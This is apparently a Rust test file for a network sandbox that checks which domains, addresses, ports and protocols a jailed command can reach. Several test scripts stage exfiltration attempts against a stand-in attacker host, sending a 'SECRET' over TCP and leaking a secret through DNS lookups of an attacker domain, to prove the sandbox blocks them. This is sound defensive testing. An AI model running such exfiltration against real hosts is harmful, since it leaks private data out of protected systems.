//! What a jailed command reaches, and what not.

use test_support::bed::{Bed, unique};
use test_support::hosts::{ALLOWED, ATTACKER, DENIED};

use crate::jail::{CALLERS, ROOT, USER};

pub(crate) const TESTS: &[test_support::harness::Test] = &[
    ("an_allowed_name_is_reached_and_no_other", names),
    ("methods_and_paths_decide_in_http", requests),
    ("methods_and_paths_decide_within_https", within_tls),
    ("addresses_of_both_families_are_denied", addresses),
    ("a_closed_port_is_closed", closed),
    ("what_no_rule_names_is_refused_at_once", refused),
    ("udp_is_relayed_where_a_rule_allows_it", udp),
    ("every_name_server_is_the_filters", name_servers),
    (
        "the_jails_own_servers_work_and_the_hosts_are_not_there",
        local,
    ),
    ("jails_side_by_side_are_strangers", side_by_side),
    ("observe_lets_pass_and_records", observe),
];

fn names(bed: &Bed) {
    for caller in CALLERS {
        let script = "curl -sS -m 5 http://allowed.test/; \
             curl -sS -m 5 --cacert /etc/little-internet.pem https://allowed.test/; \
             curl -sS -m 5 http://denied.test/ 2>&1; \
             curl -s -m 5 -o /dev/null -w '%{http_code}' --resolve denied.test:80:198.51.100.20 http://denied.test/";
        let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], script);
        let said = &jailed.answer.stdout;
        assert_eq!(
            said.matches("allowed.test").count(),
            2,
            "{}: {jailed:?}",
            caller.name
        );
        assert!(
            said.contains("Could not resolve host: denied.test"),
            "{jailed:?}"
        );
        assert!(said.ends_with("403"), "{jailed:?}");
        for protocol in ["http", "https"] {
            jailed.must_record("allow", |record| {
                record["protocol"] == protocol && record["name"] == "allowed.test"
            });
        }
        jailed.must_record("deny", |record| {
            record["protocol"] == "http" && record["name"] == "denied.test"
        });
        let unjailed = caller.run_unjailed(bed, script);
        let reached = unjailed.stdout.contains("I am denied.test");
        assert!(reached && unjailed.stdout.ends_with("200"), "{unjailed:?}");
    }
}

fn requests(bed: &Bed) {
    let script = "for request in '-X GET http://allowed.test/open/x' '-X POST http://allowed.test/open/x' \
         '-X GET http://allowed.test/shut'; do curl -s -m 5 -o /dev/null -w '%{http_code} ' $request; done";
    let rule = "domain=allowed.test port=80 method=GET path=/open/*";
    let jailed = USER.run(bed, &["--allow", rule], script);
    assert_eq!(jailed.answer.stdout, "200 403 403 ", "{jailed:?}");
}

fn within_tls(bed: &Bed) {
    // The little internet's authority is the caller's own choice, which the jail's doesn't replace.
    let script = "echo $SSL_CERT_FILE; ls $(dirname $SSL_CERT_FILE) >&2; for request in '-X GET https://allowed.test/open/x' \
         '-X POST https://allowed.test/open/x' 'https://denied.test/open/x'; do \
         curl -s -m 5 -o /dev/null -w '%{http_code} ' $request; done; \
         python3 -c 'import urllib.request; print(urllib.request.urlopen(\"https://allowed.test/open/x\").status)'";
    let rule = "domain=allowed.test method=GET path=/open/*";
    for caller in CALLERS {
        let log = format!("/tmp/{}.jsonl", unique("jail"));
        let line = caller.line(&["--log", &log, "--allow", rule], script);
        let line = [
            &["env", "SSL_CERT_FILE=/etc/little-internet.pem"][..],
            &line,
        ]
        .concat();
        let answer = bed.exec(&line);
        let (path, said) = answer.stdout.split_once('\n').unwrap();
        assert_eq!(said, "200 403 000 200\n", "{}: {answer:?}", caller.name);
        // Nothing of it is left.
        let folder = std::path::Path::new(path).parent().unwrap();
        assert!(folder.starts_with("/tmp"), "{answer:?}");
        assert!(!bed.inside(folder.to_str().unwrap()).exists(), "{answer:?}");
    }
}

fn addresses(bed: &Bed) {
    for caller in CALLERS {
        let script = format!(
            "for to in {}:80 {}:9999 '[{}]:80' '[{}]:9999'; do attacker send tcp $to SECRET; done 2>&1",
            DENIED.v4, ATTACKER.v4, DENIED.v6, ATTACKER.v6
        );
        let before = bed.internet_log().len();
        let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], &script);
        let arrived = bed.internet_log()[before..].to_owned();
        let reached = [DENIED, ATTACKER].iter().any(|host| {
            arrived.contains(&format!("-> {}", host.v4))
                || arrived.contains(&format!("-> [{}", host.v6))
        });
        assert!(!reached, "{}: {arrived} {jailed:?}", caller.name);
        for port in [80, 9999] {
            for address in [DENIED, ATTACKER]
                .map(|host| [host.v4.to_string(), host.v6.to_string()])
                .concat()
            {
                let is = |record: &serde_json::Value| {
                    record["port"] == port && record["address"] == address.as_str()
                };
                let count = jailed.records.iter().filter(|record| is(record));
                assert!(
                    count.clone().all(|record| record["verdict"] == "deny"),
                    "{jailed:?}"
                );
            }
        }
        let denied = jailed
            .records
            .iter()
            .filter(|record| record["verdict"] == "deny");
        assert_eq!(denied.count(), 4, "{jailed:?}");
        // The weapon is loaded.
        caller.run_unjailed(bed, &script);
        let arrived = bed.internet_log()[before..].to_owned();
        assert!(
            arrived.contains(&format!("-> {}:80 ", DENIED.v4)),
            "{arrived}"
        );
        assert!(
            arrived.contains(&format!("-> [{}]:80 ", DENIED.v6)),
            "{arrived}"
        );
    }
}

fn closed(bed: &Bed) {
    let rule = format!("cidr={}/32 port=4", ALLOWED.v4);
    let script = format!("attacker knock 3 {}:4", ALLOWED.v4);
    let jailed = USER.run(bed, &["--allow", &rule], &script);
    assert!(
        jailed.answer.stdout.contains(" ECONNREFUSED "),
        "{jailed:?}"
    );
    jailed.must_record("allow", |record| record["ended"] == "unreachable");
}

fn refused(bed: &Bed) {
    let script = format!(
        "attacker knock 3 {0}:4 '[{1}]:4'; attacker probe udp {0}:9999; attacker probe udp '[{1}]:9999'",
        ALLOWED.v4, ALLOWED.v6
    );
    let jailed = USER.run(bed, &["--allow", "domain=allowed.test"], &script);
    assert_eq!(
        jailed.answer.stdout.matches(" ECONNREFUSED ").count(),
        2,
        "{jailed:?}"
    );
    assert!(!jailed.answer.stdout.contains("timeout"), "{jailed:?}");
    let denied = jailed
        .records
        .iter()
        .filter(|record| record["verdict"] == "deny");
    assert_eq!(denied.count(), 4, "{jailed:?}");
}

fn udp(bed: &Bed) {
    for caller in CALLERS {
        let rules = [
            format!("proto=udp cidr={}/32 port=9999", ALLOWED.v4),
            format!("proto=udp cidr={}/128 port=9999", ALLOWED.v6),
        ];
        let options = ["--allow", &rules[0], "--allow", &rules[1]];
        let script = format!(
            "attacker probe udp {}:9999; attacker probe udp '[{}]:9999'; attacker probe udp {}:9999",
            ALLOWED.v4, ALLOWED.v6, DENIED.v4
        );
        let jailed = caller.run(bed, &options, &script);
        let outcomes: Vec<&str> = jailed.answer.stdout.lines().collect();
        let [v4, v6, denied] = outcomes.as_slice() else {
            panic!("{jailed:?}");
        };
        assert!(
            v4.starts_with("answered") && v6.starts_with("answered"),
            "{jailed:?}"
        );
        // What stands in for a socket of UDP's can't be told of a refusal by the kernel.
        let is_told = !denied.starts_with("timeout") || caller.supervised;
        assert!(!denied.starts_with("answered") && is_told, "{jailed:?}");
    }
}

fn name_servers(bed: &Bed) {
    for caller in CALLERS {
        let secret = unique("secret");
        let script = format!(
            "for server in 127.0.0.53 127.0.0.11 {0} '[{1}]' '[::1]'; do for how in udp tcp; do \
             attacker dns $how $server:53 allowed.test; attacker dns $how $server:53 {secret}.attacker.test; done; done",
            ATTACKER.v4, ATTACKER.v6
        );
        let before = bed.internet_log().len();
        let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], &script);
        let answers: Vec<String> = jailed
            .answer
            .stdout
            .lines()
            .map(|line| line.split(' ').next().unwrap_or_default().to_lowercase())
            .collect();
        assert_eq!(answers.len(), 20, "{}: {jailed:?}", caller.name);
        for pair in answers.chunks(2) {
            assert_eq!(pair, ["noerror", "nxdomain"], "{}: {jailed:?}", caller.name);
        }
        let arrived = bed.internet_log()[before..].to_owned();
        assert!(!arrived.contains(&secret), "{arrived}");
    }
}

fn local(bed: &Bed) {
    let script = "python3 -m http.server 8000 --bind 127.0.0.1 -d /usr/share >/dev/null 2>&1 & \
         for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.05; done; \
         curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.1:8000/; \
         attacker knock 3 127.0.0.1:7777 '[::1]:7777'";
    let first = bed.first().to_string();
    let mut outside = std::process::Command::new("nsenter")
        .args([
            "--target",
            &first,
            "--net",
            "--",
            "python3",
            "-m",
            "http.server",
            "7777",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    test_support::command::wait_for("a server of the host's", || {
        let knocked = ROOT.run_unjailed(bed, "attacker knock 3 127.0.0.1:7777");
        knocked.stdout.contains("connected")
    });
    for caller in CALLERS {
        let jailed = caller.run(bed, &[], script);
        assert!(
            jailed.answer.stdout.starts_with("200 "),
            "{}: {jailed:?}",
            caller.name
        );
        assert_eq!(
            jailed.answer.stdout.matches("ECONNREFUSED").count(),
            2,
            "{jailed:?}"
        );
        assert_eq!(jailed.records.len(), 0, "{jailed:?}");
    }
    outside.kill().unwrap();
    outside.wait().unwrap();
}

fn side_by_side(bed: &Bed) {
    let script = "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & \
         for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.05; done; \
         curl -s -m 5 -o /dev/null -w '%{http_code} ' http://allowed.test/; \
         curl -s -m 5 -o /dev/null -w '%{http_code}' --resolve denied.test:80:198.51.100.20 http://denied.test/";
    std::thread::scope(|scope| {
        let one = scope.spawn(|| USER.run(bed, &["--allow", "domain=allowed.test"], script));
        let other = scope.spawn(|| USER.run(bed, &["--allow", "domain=denied.test"], script));
        assert_eq!(one.join().unwrap().answer.stdout, "200 403");
        assert_eq!(other.join().unwrap().answer.stdout, "000 200");
    });
}

fn observe(bed: &Bed) {
    let script = "curl -s -m 5 -o /dev/null -w '%{http_code}' http://denied.test/";
    let jailed = USER.run(bed, &["--mode", "observe"], script);
    assert_eq!(jailed.answer.stdout, "200", "{jailed:?}");
    jailed.must_record("allow", |record| {
        let rule = record["rule"].as_str().unwrap_or_default();
        record["protocol"] == "http" && rule.starts_with("would deny: ")
    });
}
